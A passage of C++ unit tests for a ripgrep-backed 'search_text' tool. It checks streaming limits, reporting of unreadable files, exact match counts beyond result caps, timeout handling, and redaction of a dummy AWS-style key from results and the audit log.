      {1, 1 << 20, 4, 0, {lines[0], "M " + lines[1], lines[6], lines[9]}},
      // A line longer than max_line is counted, never held whole.
      {100,
       200,
       1,
       1,
       {lines[0], "M " + lines[1], "C " + lines[2], "M " + lines[3], lines[6], lines[9],
        "M " + lines[10], "M " + lines[14]}},
  };
  for (const auto& c : cases) {
    for (std::size_t chunk = 1; chunk <= out.size(); chunk += chunk < 40 ? 1 : 37) {
      SCOPED_TRACE("cap " + std::to_string(c.cap) + ", max_line " + std::to_string(c.max_line) +
                   ", reads of " + std::to_string(chunk));
      const Streamed r = StreamIn(out, chunk, c.cap, c.max_line);
      EXPECT_EQ(r.matches, 5u);  // a.txt 2, c.txt 3; the hidden file's are not counted
      EXPECT_EQ(r.files, 2u);
      EXPECT_EQ(r.not_returned, c.not_returned);
      EXPECT_EQ(r.long_lines, c.long_lines);
      EXPECT_LE(r.peak, c.max_line);
      EXPECT_EQ(r.given, c.given);
    }
  }
}

// rg's exit 2 (a path it could not read) keeps what it found and says what it could not read:
// a silent zero would read as "no match".
TEST_F(ToolsTest, SearchTextSaysWhatItCouldNotRead) {
  WriteFile(Ws("a.txt"), "needle\n");
  WriteFile(Ws("locked.txt"), "needle\n");
  ASSERT_EQ(::chmod(Ws("locked.txt").c_str(), 0), 0);
  auto s = Start();
  Json r = s->Call("search_text", {{"pattern", "needle"}});
  s->Finish();
  ASSERT_FALSE(r["isError"].get<bool>()) << r.dump().substr(0, 2000);
  const Json& sc = r["structuredContent"];
  EXPECT_EQ(sc["total_matches"], 1) << sc.dump();
  EXPECT_NE(sc.value("errors", "").find("locked.txt"), std::string::npos) << sc.dump();
}

TEST_F(ToolsTest, SearchTextCountsEveryMatchAndFilePastItsCaps) {
  // 300,000 matching lines in 6 files (about 60 MB of rg JSON): the count is exact, though
  // only max_results records come back. Before rg's output was read as it arrived, a 32 MiB
  // capture dropped its middle and this gave total_matches 182510 and files_with_matches 1.
  const std::string aws = "AKIAABCDEFGHIJKLMNOP";
  for (int f = 0; f < 6; ++f) {
    std::string text = "needle " + aws + "\n";
    for (int i = 1; i < 50000; ++i) text += "needle " + std::to_string(i) + "\n";
    WriteFile(Ws("src/f" + std::to_string(f) + ".txt"), text);
  }
  WriteFile(Ws("src/none.txt"), "nothing here\n");
  auto s = Start();
  Json r = s->Call("search_text", {{"pattern", "needle"}, {"max_results", 500}});
  s->Finish();
  ASSERT_FALSE(r["isError"].get<bool>()) << r.dump().substr(0, 2000);
  const Json& sc = r["structuredContent"];
  EXPECT_EQ(sc["total_matches"], 300000);
  EXPECT_EQ(sc["files_with_matches"], 6);
  EXPECT_EQ(sc.value("total_is_lower_bound", Json()), false);
  EXPECT_EQ(sc["truncated"], true);
  ASSERT_EQ(sc["matches"].size(), 500u);
  // The records returned are rg's first, redacted as before: each file starts with the key.
  const Json& first = sc["matches"][0];
  EXPECT_EQ(first["line"], 1);
  EXPECT_EQ(first["kind"], "match");
  EXPECT_EQ(first["text"].get<std::string>().find(aws), std::string::npos) << first.dump();
  EXPECT_NE(first["text"].get<std::string>().find("[REDACTED"), std::string::npos);
  EXPECT_EQ(r.dump().find(aws), std::string::npos);
  // The process record is a foreground call's, with every byte rg wrote counted.
  const std::string log = ReadFile(dir_ / "audit.jsonl");
  EXPECT_EQ(log.find(aws), std::string::npos);
  bool found = false;
  std::size_t at = 0;
  for (std::size_t nl; (nl = log.find('\n', at)) != std::string::npos; at = nl + 1) {
    Json rec = Json::parse(log.substr(at, nl - at));
    if (rec["type"] != "process" || rec.value("tool", "") != "search_text") continue;
    found = true;
    EXPECT_EQ(rec["kind"], "foreground");
    EXPECT_EQ(rec["status"], "exited");
    EXPECT_GT(rec["stdout_bytes"].get<std::uint64_t>(), 300000u * 150) << rec.dump();
  }
  EXPECT_TRUE(found) << log.substr(0, 2000);
}

TEST_F(ToolsTest, SearchTextStoppedByItsTimeoutSaysItsCountIsALowerBound) {
  // 10 million matching lines take rg seconds to print as JSON (1.8 GB); a 1 s time limit
  // stops it, and what was counted until then comes back marked as a part.
  std::string text;
  text.reserve(20'000'000);
  for (int i = 0; i < 10'000'000; ++i) text += "x\n";
  WriteFile(Ws("big.txt"), text);
  WriteFile(dir_ / "fast.toml", "[tools.search_text]\ntimeout_secs = 1\n");
  auto s = Start({dir_ / "fast.toml"});
  Json r = s->Call("search_text", {{"pattern", "x"}, {"max_results", 10}});
  s->Finish();
  ASSERT_FALSE(r["isError"].get<bool>()) << r.dump().substr(0, 2000);
  const Json& sc = r["structuredContent"];
  EXPECT_EQ(sc.value("total_is_lower_bound", Json()), true) << sc.dump().substr(0, 2000);
  EXPECT_EQ(sc["truncated"], true);
  EXPECT_LT(sc["total_matches"].get<std::int64_t>(), 10'000'000);
  EXPECT_GE(sc["total_matches"].get<std::int64_t>(),
            static_cast<std::int64_t>(sc["matches"].size()));
  for (const auto& spec : BuiltinTools()) {
    if (spec.name == "search_text") ExpectWellFormed(spec, r);
  }
  const std::string log = ReadFile(dir_ / "audit.jsonl");
  EXPECT_NE(log.find("\"status\":\"timeout\""), std::string::npos);
}

}  // namespace
}  // namespace cordon
